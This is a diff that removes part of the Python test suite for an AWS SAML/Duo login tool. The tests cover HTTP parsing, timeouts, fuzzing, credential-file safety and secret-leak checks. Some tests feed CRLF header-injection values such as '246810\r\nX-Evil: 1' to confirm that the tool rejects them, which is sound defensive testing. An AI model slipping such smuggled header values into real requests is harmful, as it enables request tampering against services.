-                return
-            thread = threading.Thread(target=self._tunnel, args=(client,))
-            thread.daemon = True
-            thread.start()
-
-    def _tunnel(self, client):
-        head = b""
-        while b"\r\n\r\n" not in head:
-            chunk = client.recv(4096)
-            if not chunk:
-                return client.close()
-            head += chunk
-        target = head.split(b" ")[1].decode()
-        self.connects.append(target)
-        host, port = target.rsplit(":", 1)
-        if host != "127.0.0.1":
-            client.sendall(b"HTTP/1.1 403 Forbidden\r\n\r\n")
-            return client.close()
-        upstream = socket.create_connection((host, int(port)))
-        client.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
-        sockets = [client, upstream]
-        try:
-            while True:
-                ready = select.select(sockets, [], [], 10)[0]
-                if not ready:
-                    break
-                for s in ready:
-                    data = s.recv(65536)
-                    if not data:
-                        return
-                    self.seen += data
-                    (upstream if s is client else client).sendall(data)
-        except OSError:
-            pass
-        finally:
-            client.close()
-            upstream.close()
-
-
-class RawHttpTest(unittest.TestCase):
-    """http_request's own HTTP/1.1 reading, against canned answers on a socket."""
-
-    def serve(self, answer, requests=None):
-        server = socket.socket()
-        server.bind(("127.0.0.1", 0))
-        server.listen(4)
-        self.addCleanup(server.close)
-
-        def run():
-            try:
-                client = server.accept()[0]
-            except OSError:
-                return
-            data = b""
-            while b"\r\n\r\n" not in data:
-                chunk = client.recv(65536)
-                if not chunk:
-                    break
-                data += chunk
-            if requests is not None:
-                requests.append(data)
-            client.sendall(answer)
-            client.close()
-        thread = threading.Thread(target=run)
-        thread.daemon = True
-        thread.start()
-        return "http://127.0.0.1:%d/ecp?x=1" % server.getsockname()[1]
-
-    def test_framings(self):
-        body = b"<x>" + b"y" * 5000 + b"</x>"
-        chunked = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 1000]), body[i:i + 1000])
-                           for i in range(0, len(body), 1000)) + b"0\r\nTrailer: t\r\n\r\n"
-        for name, raw in (
-                ("length", b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body),
-                                                                                 body)),
-                ("chunked", b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked),
-                ("to the end", b"HTTP/1.0 200 OK\r\nX-A: 1\r\n\r\n" + body),
-                ("interim first", b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\n"
-                                  b"Content-Length: %d\r\n\r\n%s" % (len(body), body))):
-            answer = aws_login.http_request(self.serve(raw), b"data")
-            self.assertEqual((answer.status, answer.body), (200, body), name)
-
-    def test_the_request_as_sent(self):
-        requests = []
-        url = self.serve(b"HTTP/1.1 204 No Content\r\nSet-Cookie: a=1\r\nSet-Cookie: b=2\r\n"
-                         b"Content-Length: 0\r\n\r\n", requests)
-        jar = aws_login.CookieJar()
-        answer = aws_login.http_request(url, b"<body/>", {"Content-Type": "text/xml"},
-                                        cookie_jar=jar)
-        self.assertEqual(answer.status, 204)
-        self.assertEqual(answer.headers.get_all("set-cookie"), ["a=1", "b=2"])
-        self.assertEqual(jar.header_for(url), "a=1; b=2")
-        head, _, sent = requests[0].partition(b"\r\n\r\n")
-        lines = head.decode().split("\r\n")
-        self.assertEqual(lines[0], "POST /ecp?x=1 HTTP/1.1")
-        fields = dict(line.split(": ", 1) for line in lines[1:])
-        self.assertEqual(fields["Host"], url.split("/")[2])
-        self.assertEqual(fields["Content-Length"], "7")
-        self.assertEqual(fields["Content-Type"], "text/xml")
-
-    def test_broken_answers(self):
-        for name, raw, reason in (
-                ("no status", b"HTTX/1.1 200 OK\r\n\r\n", "BadStatusLine"),
-                ("short status", b"HTTP/1.1 20 OK\r\n\r\n", "BadStatusLine"),
-                ("nothing", b"", "RemoteDisconnected"),
-                ("long line", b"HTTP/1.1 200 OK\r\nX: " + b"a" * 70000 + b"\r\n\r\n",
-                 "LineTooLong"),
-                ("many headers", b"HTTP/1.1 200 OK\r\n" + b"X: 1\r\n" * 101 + b"\r\n",
-                 "TooManyHeaders"),
-                ("header without colon", b"HTTP/1.1 200 OK\r\nnonsense\r\n\r\n",
-                 "BadHeaderLine"),
-                ("bad length", b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n",
-                 "BadContentLength"),
-                ("short body", b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nabc",
-                 "IncompleteRead"),
-                ("bad chunk", b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
-                 "IncompleteRead")):
-            with self.assertRaises(aws_login.NetworkError, msg=name) as caught:
-                aws_login.http_request(self.serve(raw), b"x")
-            self.assertEqual(caught.exception.kind, "broken", name)
-            self.assertIn("(%s)" % reason, str(caught.exception), name)
-
-    def test_an_answer_over_the_limit_is_refused_whatever_its_framing(self):
-        big = b"a" * 3000
-        for raw in (b"HTTP/1.1 200 OK\r\nContent-Length: 3000\r\n\r\n" + big,
-                    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
-                    b"bb8\r\n" + big + b"\r\n0\r\n\r\n",
-                    b"HTTP/1.1 200 OK\r\n\r\n" + big):
-            with self.assertRaisesRegex(aws_login.IdPError, "over 1000 bytes"):
-                aws_login.http_request(self.serve(raw), b"x", max_bytes=1000)
-
-    def test_header_values_http_cannot_carry(self):
-        for headers in ({"X-Code": "1\r\nX-Evil: 1"}, {"X-Code": "1\n"}, {"Bad Name": "1"},
-                        {"X-Code": "\u0663"}):
-            with self.assertRaises(aws_login.ConfigError):
-                aws_login.http_request("http://127.0.0.1:9/", b"x", headers)
-
-    def test_a_proxy_that_refuses_the_tunnel(self):
-        url = self.serve(b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n")
-        os.environ["HTTPS_PROXY"] = url.rsplit("/", 1)[0]
-        self.addCleanup(os.environ.pop, "HTTPS_PROXY")
-        with self.assertRaisesRegex(aws_login.NetworkError, "refused the tunnel \\(HTTP 403\\)"):
-            aws_login.http_request("https://idp.example.edu/ecp", b"x",
-                                   ssl_context=aws_login.make_ssl_context())
-
-
-class TrickleServer(object):
-    """Accepts connections and sends an HTTP status line one byte at a time,
-    every ``interval`` seconds, for at most ``limit`` seconds: a server that
-    never finishes an answer but never lets a read time out."""
-
-    def __init__(self, tls=False, interval=0.2, limit=25):
-        self.tls, self.interval, self.limit = tls, interval, limit
-        self.sock = socket.socket()
-        self.sock.bind(("127.0.0.1", 0))
-        self.sock.listen(8)
-        self.port = self.sock.getsockname()[1]
-        self.stopping = threading.Event()
-        self.connections = 0
-        thread = threading.Thread(target=self._serve)
-        thread.daemon = True
-        thread.start()
-
-    @property
-    def url(self):
-        return "%s://127.0.0.1:%d/ecp" % ("https" if self.tls else "http", self.port)
-
-    def _serve(self):
-        while not self.stopping.is_set():
-            try:
-                conn, _ = self.sock.accept()
-            except OSError:
-                return
-            self.connections += 1
-            t = threading.Thread(target=self._trickle, args=(conn,))
-            t.daemon = True
-            t.start()
-
-    def _trickle(self, conn):
-        try:
-            if self.tls:
-                conn.settimeout(10)
-                conn = server_context().wrap_socket(conn, server_side=True)
-            conn.settimeout(1)
-            started = time.time()
-            for byte in b"HTTP/1.1 200 OK\r\nX-Slow: " + b"a" * 10000:
-                if self.stopping.wait(self.interval) or time.time() - started > self.limit:
-                    break
-                conn.sendall(bytes([byte]))
-        except (OSError, ssl.SSLError):
-            pass
-        finally:
-            conn.close()
-
-    def stop(self):
-        self.stopping.set()
-        self.sock.close()
-
-
-class DeadlineTest(LoginTestCase):
-    """A server that sends a byte now and then must not hold us past a deadline."""
-    SLOW = True         # waits on real time: the runner starts it first
-
-    def trickle(self, **kw):
-        server = TrickleServer(**kw)
-        self.addCleanup(server.stop)
-        return server
-
-    def test_a_trickling_answer_ends_at_the_request_deadline(self):
-        for tls in (False, True):
-            server = self.trickle(tls=tls)
-            context = aws_login.make_ssl_context() if tls else None
-            started = time.monotonic()
-            with self.assertRaises(aws_login.NetworkError) as caught:
-                # Each byte comes well within the read timeout; only the total can end it.
-                aws_login.http_request(server.url, b"x", ssl_context=context,
-                                       connect_timeout=1, read_timeout=1.5)
-            elapsed = time.monotonic() - started
-            self.assertEqual(caught.exception.kind, "timeout", caught.exception)
-            self.assertIn("timed out", str(caught.exception))
-            self.assertGreater(elapsed, 2)      # the 2.5 s total, not a read timeout
-            self.assertLess(elapsed, 12, tls)
-
-    def test_an_explicit_deadline_shortens_the_request(self):
-        server = self.trickle()
-        started = time.monotonic()
-        with self.assertRaises(aws_login.NetworkError) as caught:
-            aws_login.http_request(server.url, b"x", deadline=time.monotonic() + 1)
-        self.assertEqual(caught.exception.kind, "timeout")
-        self.assertLess(time.monotonic() - started, 10)
-        with self.assertRaises(aws_login.NetworkError) as caught:   # no time left at all
-            aws_login.http_request(server.url, b"x", deadline=time.monotonic() - 1)
-        self.assertEqual(caught.exception.kind, "timeout")
-
-    def test_credential_process_renewal_has_its_own_time_limit(self):
-        # The cached path's renewal holds the renewal lock that every `aws`
-        # call of the profile waits for: it must end by RENEWAL_TIME_LIMIT.
-        server = self.trickle(tls=True)
-        self.configure(ecp_endpoint_url=server.url, username="alice", factor="auto",
-                       password=PASSWORD)
-        saved = aws_login.RENEWAL_TIME_LIMIT
-        aws_login.RENEWAL_TIME_LIMIT = 1.5
-        self.addCleanup(setattr, aws_login, "RENEWAL_TIME_LIMIT", saved)
-        started = time.monotonic()
-        with self.assertRaises(aws_login.AwsLoginError) as caught:
-            aws_login._renew_for_process("default", None)
-        self.assertIn("in time", str(caught.exception))
-        self.assertLess(time.monotonic() - started, 12)
-        self.assertEqual(server.connections, 1)
-
-    def test_a_login_deadline_covers_every_request(self):
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-        server = self.trickle(tls=True)
-        os.environ["AWS_ENDPOINT_URL_STS"] = server.url    # the IdP answers; STS trickles
-        profile = aws_login.read_profile("default")
-        started = time.monotonic()
-        with self.assertRaises(aws_login.NetworkError) as caught:
-            aws_login.login(profile, aws_login.Terminal(None), interactive=False,
-                            deadline=time.monotonic() + 2)
-        self.assertEqual(caught.exception.kind, "timeout")
-        self.assertLess(time.monotonic() - started, 12)
-        self.assertEqual(len(self.idp.requests), 1)
-        self.assertFalse(os.path.exists(self.credentials_file))
-
-
-class PasscodeHeaderTest(LoginTestCase):
-    def test_a_passcode_with_a_line_break_is_refused_without_being_shown(self):
-        # configparser reads an indented next line as the value's continuation.
-        self.configure(username="alice", factor="passcode", password=PASSWORD)
-        text = self.read(self.config_file)
-        self.write(self.config_file, text + "passcode = 246810\n  SECRET-HEADER: x\n")
-        run = self.tool(["login"], terminal=False)
-        self.assert_nothing_written(run, 3)
-        self.assertIn("passcode", run.stderr)
-        for secret in ("246810", "SECRET"):
-            self.assertNotIn(secret, run.stderr)
-        self.assertEqual(self.idp.requests, [])
-
-    def test_a_bad_passcode_from_the_api_or_prompt_never_reaches_http(self):
-        self.configure(username="alice", factor="passcode", password=PASSWORD)
-        for bad in ("246810\r\nX-Evil: 1", "24 68", "\u0662\u0664\u0666", "1\x00"):
-            with self.assertRaises(aws_login.ConfigError) as caught:
-                aws_login.get_credentials(passcode=bad)
-            self.assertNotIn(bad.strip(), str(caught.exception))
-        self.assertEqual(self.idp.requests, [])
-        run = self.tool(["login"], [("Code: ", "1234 5678")])
-        self.assertEqual(run.code, 3, run)
-        self.assertNotIn("1234", run.stderr + run.tty.replace("Code: ", ""))
-        for request in self.idp.requests:       # only the probe before the prompt went out
-            self.assertEqual(request["authorization"], None)
-            self.assertNotIn("X-Shibboleth-Duo-Passcode", request["headers"])
-
-    def test_a_header_value_http_refuses_is_a_configuration_error_not_shown(self):
-        server = TrickleServer()
-        self.addCleanup(server.stop)
-        with self.assertRaises(aws_login.ConfigError) as caught:
-            aws_login.http_request(server.url, b"x", {"X-Code": "246810\nSECRET"})
-        self.assertNotIn("SECRET", str(caught.exception))
-        self.assertNotIn("246810", str(caught.exception))
-        self.assertFalse(caught.exception.transient)
-
-
-@unittest.skipUnless(shutil.which("openssl"), "needs the openssl command to name hashed files")
-class SystemRootsTest(LoginTestCase):
-    """The system's CAs from a hashed folder (read lazily) when the bundle lies in
-    it; both when the bundle is elsewhere."""
-
-    def hashed_folder(self, with_ca=True):
-        folder = os.path.join(self.home, "certs")
-        os.mkdir(folder)
-        name = subprocess.check_output(["openssl", "x509", "-hash", "-noout", "-in",
-                                        self.pems["ca"]]).decode().strip()
-        if with_ca:
-            shutil.copy(self.pems["ca"], os.path.join(folder, name + ".0"))
-        else:
-            self.write(os.path.join(folder, "0123abcd.0"), "not a certificate\n")
-        return folder
-
-    def login(self, **env):
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-        os.environ.pop("AWS_CA_BUNDLE", None)
-        return self.tool(["login", "--force"], terminal=False, env=env)
-
-    def test_the_hashed_folder_alone_when_the_bundle_lies_in_it(self):
-        folder = self.hashed_folder()
-        bundle = os.path.join(folder, "ca-certificates.crt")
-        self.write(bundle, "")          # the folder's own bundle, empty: trust comes lazily
-        os.environ.update(SSL_CERT_DIR=folder, SSL_CERT_FILE=bundle)
-        import ssl
-        self.assertEqual(aws_login._system_roots(ssl), (os.path.realpath(bundle),
-                                                        os.path.realpath(folder)))
-        self.assert_logged_in(self.login())
-
-    def test_a_bundle_elsewhere_is_read_too(self):
-        folder = self.hashed_folder(with_ca=False)
-        os.environ.update(SSL_CERT_DIR=folder, SSL_CERT_FILE=self.pems["ca"])
-        import ssl
-        self.assertEqual(aws_login._system_roots(ssl), (os.path.realpath(self.pems["ca"]),
-                                                        None))
-        self.assert_logged_in(self.login())
-        os.environ["SSL_CERT_FILE"] = os.path.join(folder, "none.crt")   # nor here: refused
-        run = self.login()
-        self.assertEqual(run.code, 8, run)
-        self.assertIn("not trusted", run.stderr)
-
-
-class FuzzTest(HomeTestCase):
-    """A seeded, bounded mutation fuzzer: no exception escapes but ours."""
-
-    SEED = int(os.environ.get("FUZZ_SEED", "20261127"))
-    ROUNDS = int(os.environ.get("FUZZ_ROUNDS", "1500"))
-    TOKENS = [b"<", b">", b"</", b"/>", b"&", b"&amp;", b"<!DOCTYPE x>", b"]]>", b"\x00",
-              b"\xff", b"\xc3", b"[", b"]", b"=", b":", b"\r\n", b"\n", b"%", b",", b'"',
-              b"xmlns:saml2p='urn:x'", b"arn:aws:iam::123456789012:role/", b"<![CDATA[",
-              b"\t", b" ", b"Z", b"9" * 30, b"-"]
-
-    def mutate(self, rng, data):
-        data = bytearray(data)
-        for _ in range(rng.randint(1, 6)):
-            choice = rng.randrange(5)
-            at = rng.randrange(len(data) + 1)
-            if choice == 0 and data:
-                data[min(at, len(data) - 1)] = rng.randrange(256)
-            elif choice == 1:
-                del data[at:at + rng.randint(1, 64)]
-            elif choice == 2:
-                data[at:at] = rng.choice(self.TOKENS)
-            elif choice == 3 and data:
-                start = rng.randrange(len(data))
-                data[at:at] = data[start:start + rng.randint(1, 200)]
-            else:
-                del data[at:]
-        return bytes(data)
-
-    def fuzz(self, seeds, target):
-        import random
-        rng = random.Random(self.SEED)
-        deadline = time.time() + 20
-        for i in range(self.ROUNDS):
-            data = self.mutate(rng, rng.choice(seeds))
-            try:
-                target(data)
-            except aws_login.AwsLoginError:
-                pass
-            except Exception as e:
-                self.fail("round %d (seed %d): %s: %s on %r" % (i, self.SEED, type(e).__name__,
-                                                               e, data[:300]))
-            if time.time() > deadline:
-                break
-
-    def test_idp_answers(self):
-        seeds = [build_success_envelope("_r", AWS_ACS_URLS[0], [ADMIN + "," + PROVIDER_A,
-                                                                READONLY + "," + PROVIDER_B],
-                                         session_duration=3600, prefix_style=style)[0]
-                 for style in ("odd", "plain")]
-        seeds.append(build_status_envelope("_r", AWS_ACS_URLS[0])[0])
-
-        def target(body):
-            answer = aws_login.HttpAnswer(200, {"Content-Type": "text/xml"}, body,
-                                          "https://idp.example.edu/ecp")
-            saml = aws_login.parse_ecp_answer(answer, AWS_ACS_URLS[0])
-            self.assertIsInstance(saml.response_xml, bytes)
-        self.fuzz(seeds, target)
-
-    def test_sts_answers(self):
-        issued = (b'<AssumeRoleWithSAMLResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/">'
-                  b'<AssumeRoleWithSAMLResult><Credentials><AccessKeyId>ASIA1</AccessKeyId>'
-                  b'<SecretAccessKey>s</SecretAccessKey><SessionToken>t</SessionToken>'
-                  b'<Expiration>2026-11-27T10:33:19.392466Z</Expiration></Credentials>'
-                  b'<AssumedRoleUser><Arn>arn:aws:sts::1:assumed-role/A/b</Arn></AssumedRoleUser>'
-                  b'</AssumeRoleWithSAMLResult></AssumeRoleWithSAMLResponse>')
-        error = sts_error("ValidationError", "DurationSeconds too long")[2]
-        self.fuzz([issued, error], lambda body: aws_login.parse_sts_answer(200, body))
-
-    def test_config_and_credentials_files(self):
-        seeds = [b"# c\r\n[default]\r\necp_endpoint_url = https://idp/ecp\r\nusername = a\r\n"
-                 b"factor = push\r\nduration = 3600\r\n\r\n[p]\nrole_arn = " + ADMIN.encode() +
-                 b"\nenable_keyring=true\n", b"[a]\nk=v\n  cont\n[a]\nk=w"]
-
-        def target(data):
-            text = data.decode("utf-8", "replace")
-            self.write(self.config_file, text)
-            try:
-                aws_login.read_profile("default")
-            except aws_login.AwsLoginError:
-                pass
-            self.write(self.credentials_file, text)
-            aws_login.write_credentials("p", _fake_credentials(), ADMIN)
-            aws_login.remove_credentials("p")
-            aws_login.ini_set_options(text, "default", {"username": "x", "factor": None})
-        self.fuzz(seeds, target)
-
-
-class SharedFilesTest(LoginTestCase):
-    WRITER = ("import sys, time; sys.path.insert(0, %r); import aws_login\n"
-              "name = sys.argv[1]\n"
-              "c = aws_login.Credentials('ASIA' + name, 's', 't', "
-              "aws_login.parse_timestamp('2100-01-01T00:00:00Z'))\n"
-              "for i in range(int(sys.argv[2])):\n"
-              "    aws_login.write_credentials(name, c, %r)\n"
-              "    aws_login.remove_credentials(name)\n"
-              "aws_login.write_credentials(name, c, %r)\n" % (HERE, ADMIN, ADMIN))
-
-    def test_twenty_writers_and_a_refresher_lose_nothing(self):
-        before = ("# keep this comment\r\n[keep]\r\naws_access_key_id = AKIAKEEP\r\n"
-                  "aws_secret_access_key = k\r\nregion = a\r\nregion = b\r\n")
-        self.write(self.credentials_file, before)
-        self.sts.clock = lambda: time.time() - 3600 + 6
-        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
-        self.assertEqual(self.tool(["login"], terminal=False).code, 0)
-        stop, bad = threading.Event(), []
-
-        def reader():
-            while not stop.is_set():
-                text = self.read(self.credentials_file)
-                try:
-                    import configparser     # lenient on the kept duplicate keys, not on sections
-                    configparser.RawConfigParser(strict=False).read_string(text)
-                    headers = re.findall(r"(?m)^\[.*\]", text)
-                    assert len(headers) == len(set(headers)), "a section twice"
-                    assert text.startswith(before), "the other bytes changed"
-                except Exception as e:
-                    bad.append("%s: %r" % (e, text[:200]))
-        thread = threading.Thread(target=reader)
-        thread.start()
-        procs = [subprocess.Popen([sys.executable, "-c", self.WRITER, "w%02d" % i, "10"])
-                 for i in range(20)]
-        codes = [p.wait() for p in procs]
-        renewed = _wait_for(lambda: len(self.sts.issued) >= 2 and self.credentials()[
-            "aws_access_key_id"] == self.sts.issued[-1]["AccessKeyId"], 15)
-        stop.set()
-        thread.join()
-        self.assertEqual(codes, [0] * 20)
-        self.assertEqual(bad, [])
-        for i in range(20):
-            self.assertEqual(self.credentials("w%02d" % i)["aws_access_key_id"], "ASIAw%02d" % i)
-        self.assertTrue(renewed, "the refresher did not renew meanwhile")
-
-    def test_sigkill_mid_write_never_tears_the_file(self):
-        import random
-        big = "".join("[s%03d]\naws_access_key_id = AKIA%03d\naws_secret_access_key = %s\n\n"
-                      % (i, i, "k" * 200) for i in range(300))
-        self.write(self.credentials_file, big)
-        loop = ("import sys; sys.path.insert(0, %r); import aws_login\n"
-                "c = aws_login.Credentials('ASIA', 's' * 5000, 't' * 5000, "
-                "aws_login.parse_timestamp('2100-01-01T00:00:00Z'))\n"
-                "while True:\n"
-                "    aws_login.write_credentials('p', c, %r)\n"
-                "    aws_login.remove_credentials('p')\n" % (HERE, ADMIN))
-        rng = random.Random(7)
-        for _ in range(15):
-            proc = subprocess.Popen([sys.executable, "-c", loop])
-            time.sleep(0.15 + rng.random() * 0.3)
-            proc.kill()
-            proc.wait()
-            text = self.read(self.credentials_file)
-            self.assertTrue(text.startswith(big), "torn or damaged")
-            aws_login._parse_ini(text, "c", "\x00")
-        leftovers = [n for n in os.listdir(os.path.dirname(self.credentials_file))
-                     if n != "credentials"]
-        for name in leftovers:      # a killed writer's temp file: private, then swept
-            self.assertEqual(os.stat(os.path.join(os.path.dirname(self.credentials_file),
-                                                  name)).st_mode & 0o777, 0o600)
-
-    def test_file_shapes_are_kept(self):
-        shapes = ["[a]\r\nk = v\r\n", "# only comments\n; and more\n",
-                  "[x]\nk = 1\nk = 2\n\n[default]\naws_access_key_id = A\n",
-                  "[a]\nk = v", "\n\n[a]\n\tk = v\n\n\n"]
-        for shape in shapes:
-            self.write(self.credentials_file, shape)
-            aws_login.write_credentials("p", _fake_credentials(), ADMIN)
-            text = self.read(self.credentials_file)
-            self.assertIn(shape.rstrip("\r\n"), text)
-            aws_login.remove_credentials("p")
-            self.assertEqual(self.read(self.credentials_file), shape, repr(shape))
-
-    def test_modes_whatever_the_umask(self):
-        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
-        run = self.tool(["login"], terminal=False, argv_prefix=[
-            "sh", "-c", 'umask 000; exec "$0" "$@"', sys.executable, SCRIPT])
-        self.assert_logged_in(run)
-        self.tool(["configure", "--username", "alice"], terminal=False, argv_prefix=[
-            "sh", "-c", 'umask 000; exec "$0" "$@"', sys.executable, SCRIPT])
-        for top in (os.path.join(self.home, ".aws-login"), os.path.dirname(self.credentials_file)):
-            for directory, dirs, files in os.walk(top):
-                if directory.startswith(os.path.join(self.home, ".aws-login")):
-                    self.assertEqual(os.stat(directory).st_mode & 0o777, 0o700, directory)
-                for name in files:
-                    path = os.path.join(directory, name)
-                    self.assertEqual(os.stat(path).st_mode & 0o077, 0, path)
-
-    @unittest.skipUnless(os.getuid() == 0, "needs root to make a file another user's")
-    def test_another_users_files_are_refused(self):
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-        self.write(self.credentials_file, "[x]\nk = v\n")
-        os.chown(self.credentials_file, 4242, 4242)
-        run = self.tool(["login"], terminal=False)
-        self.assertEqual(run.code, 9, run)
-        self.assertIn("belongs to another user", run.stderr)
-        self.assertEqual(self.read(self.credentials_file), "[x]\nk = v\n")
-        os.chown(self.credentials_file, 0, 0)
-        cache = os.path.join(self.home, ".aws-login", "cache")
-        os.makedirs(cache, exist_ok=True)       # login's lock lives there
-        os.chown(cache, 4242, 4242)
-        run = self.tool(["configure", "--credential-process"], terminal=False)
-        self.assertEqual(run.code, 0, run)
-        run = self.tool(["credential-process"], terminal=False)
-        self.assertEqual((run.code, run.stdout), (9, ""), run)
-
-
-class SecretsTest(LoginTestCase):
-    """A whole life with --debug; no secret anywhere it should not be."""
-    SLOW = True         # waits on real time: the runner starts it first
-
-    def test_no_secret_leaks(self):
-        self.idp.require_factor = {"passcode"}
-        self.idp.expected_passcode = "987654"
-        self.sts.clock = lambda: time.time() - 3600 + 8
-        self.configure(username="alice", factor="passcode", refresh="true")
-        self.configure("proc", username="alice", factor="passcode", passcode="987654",
-                       password=PASSWORD)
-        outputs = []
-        run = self.tool(["--debug", "login"], [("Password: ", PASSWORD), ("Code: ", "987654")])
-        self.assertEqual(run.code, 0, run)
-        outputs.append(run)
-        pid = int(re.search(r"pid (\d+)", run.stderr).group(1))
-        cookies = list(self.idp.sessions)
-        first = self.credentials()["aws_access_key_id"]
-        self.assertTrue(_wait_for(lambda: self.credentials()["aws_access_key_id"] != first, 10))
-        with open("/proc/%d/cmdline" % pid, "rb") as f:
-            proc_text = f.read()
-        with open("/proc/%d/environ" % pid, "rb") as f:
-            proc_text += f.read()
-        outputs.append(self.tool(["--debug", "--profile", "proc", "configure",
-                                  "--credential-process"], terminal=False))
-        outputs.append(self.tool(["--debug", "--profile", "proc", "credential-process"],
-                                 terminal=False))
-        self.assertEqual(outputs[-1].code, 0, outputs[-1])
-        cookies += list(self.idp.sessions)
-        outputs.append(self.tool(["--debug", "logout", "--forget"], terminal=False))
-        outputs.append(self.tool(["--debug", "--profile", "proc", "logout"], terminal=False))
-        secrets = [PASSWORD, "987654", base64.b64encode(("alice:" + PASSWORD).encode()).decode()]
-        secrets += [c["SecretAccessKey"] for c in self.sts.issued]
-        secrets += [c["SessionToken"] for c in self.sts.issued] + cookies
-        self.assertGreaterEqual(len(self.sts.issued), 3)
-        shown = "".join(r.stdout[:0] + r.stderr + r.tty for r in outputs)
-        holders = {os.path.realpath(self.credentials_file), os.path.realpath(self.config_file)}
-        files = {}
-        for directory, _, names in os.walk(self.home):
-            for name in names:
-                path = os.path.realpath(os.path.join(directory, name))
-                if (path in holders or "/cookies/" in path or "/cache/" in path
-                        or "/fake-keyring/" in path or "/pki/" in path):
-                    self.assertEqual(os.stat(path).st_mode & 0o077, 0, path) \
-                        if "/pki/" not in path else None
-                    continue
-                with open(path, "rb") as f:
-                    files[path] = f.read().decode("utf-8", "replace")
-        self.assertTrue(any(p.endswith("default.log") for p in files), sorted(files))
-        for secret in secrets:
-            self.assertNotIn(secret, shown)
-            self.assertNotIn(secret.encode(), proc_text)
-            for path, text in files.items():
-                self.assertNotIn(secret, text, path)
-
-
-# ---------------------------------------------------------------------------
-# Where users already are: migration, the Python API, CI, the AWS CLI plugin
-# ---------------------------------------------------------------------------
-
-AWSCLI_LOGIN_CONFIG = """[default]
-ecp_endpoint_url = {url}
-username = alice
-enable_keyring = True
-factor = push
-role_arn = {role}
-
-[prod]
-ecp_endpoint_url = {url}
-username = bob
-factor = passcode
-duration = 7200
-http_header_factor = X-Shibboleth-Duo-Factor
-verify_ssl_certificate = True
-"""
-
-
-class HintTest(HomeTestCase):
-    """Every hint names the command as the user ran it, with the same prefix."""
-
-    def assert_one_error(self, run, code, hint):
-        self.assertEqual(run.code, code, run)
-        self.assertEqual(len(run.stderr.splitlines()), 1, run)
-        self.assertTrue(run.stderr.startswith("aws_login: error: "), run)
-        self.assertIn(hint, run.stderr)
-        self.assertNotIn("  ", run.stderr)
-
-    def test_from_the_file(self):
-        run = run_tool(["--profile", "prod", "login"], env=dict(os.environ), terminal=False)
-        self.assert_one_error(run, 3, "run `python3 %s --profile prod configure`" % SCRIPT)
-        run = run_tool(["whoami"], env=dict(os.environ), terminal=False)
-        self.assert_one_error(run, 10, "not logged in to profile default: run `python3 %s "
-                                       "login`" % SCRIPT)
-
-    def test_from_the_installed_command(self):
-        bin_dir = os.path.join(self.home, "bin")
-        command = os.path.join(bin_dir, "aws-login")
-        # what pip's console-script wrapper does
-        self.write(command, "#!%s\nimport sys\nsys.path.insert(0, %r)\nfrom aws_login import "
-                   "main\nsys.exit(main())\n" % (sys.executable, HERE), mode=0o755)
-        run = run_tool(["--profile", "prod", "login"], env=dict(os.environ), terminal=False,
-                       argv_prefix=[command])
-        self.assert_one_error(run, 3, "run `aws-login --profile prod configure`")
-        run = run_tool(["--help"], env=dict(os.environ), terminal=False, argv_prefix=[command])
-        self.assertTrue(run.stdout.startswith("usage: aws-login "), run)
-
-    def test_piped_into_python(self):
-        with open(SCRIPT, "rb") as f:
-            source = f.read()
-        run = run_tool(["--profile", "prod", "login"], env=dict(os.environ), terminal=False,
-                       stdin=source, argv_prefix=[sys.executable, "-"])
-        self.assert_one_error(run, 3, "save this script as aws_login.py and run `python3 "
-                                      "aws_login.py --profile prod configure`, or pipe it "
-                                      "again to `python3 - --profile prod configure`")
-        run = run_tool(["login"], env=dict(os.environ), terminal=False, stdin=source,
-                       argv_prefix=[sys.executable, "-"])
-        self.assert_one_error(run, 3, "`python3 aws_login.py configure`")
-
-
-class LoginOverridesTest(LoginTestCase):
-    def test_ca_bundle_region_and_no_verify_ssl_for_one_login(self):
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-        del os.environ["AWS_CA_BUNDLE"]
-        run = self.tool(["login"], terminal=False)
-        self.assert_nothing_written(run, 8)
-        self.assertEqual(self.idp.requests, [])
-        run = self.tool(["login", "--ca-bundle", self.pems["ca"], "--region", "eu-west-1"],
-                        terminal=False)
-        self.assert_logged_in(run)
-        self.assertEqual(aws_login.read_profile("default").ca_bundle, None)    # this time only
-        run = self.tool(["login", "--force", "--no-verify-ssl"], terminal=False)
-        self.assert_logged_in(run)
-        self.assertIn("TLS CERTIFICATE CHECKING IS OFF", run.stderr)
-        run = self.tool(["login", "--region", "mars"], terminal=False)
-        self.assertEqual(run.code, 3, run)
-
-
-class MigrationTest(LoginTestCase):
-    """awscli-login's files, as it writes them, work unchanged."""
-
-    def test_its_config_and_keyring_entry_log_in_with_nothing_asked(self):
-        os.remove(self.config_file) if os.path.exists(self.config_file) else None
-        self.write(self.config_file, AWSCLI_LOGIN_CONFIG.format(url=self.idp.url, role=ADMIN))
-        keyring = FakeKeyring(self.home)
-        keyring.set("alice@" + self.idp.host_port, PASSWORD)    # its `keyring set` entry
-        run = self.tool(["login", "--no-refresh"], terminal=False, env=keyring.env())
-        self.assert_logged_in(run)
-        self.assertEqual(self.idp.requests[-1]["headers"]["X-Shibboleth-Duo-Factor"], "push")
-        prod = aws_login.read_profile("prod")
-        self.assertEqual((prod.username, prod.factor, prod.duration, prod.verify_ssl_certificate),
-                         ("bob", "passcode", 7200, True))
-
-    def test_its_defaults_duration_0_and_factor_off_mean_not_set(self):
-        # awscli-login 1.0 writes duration = 0 ("not set"), and reads 0, no,
-        # false, off and disable as "no Duo factor".
-        for word in ("off", "0", "No", "false", "disable"):
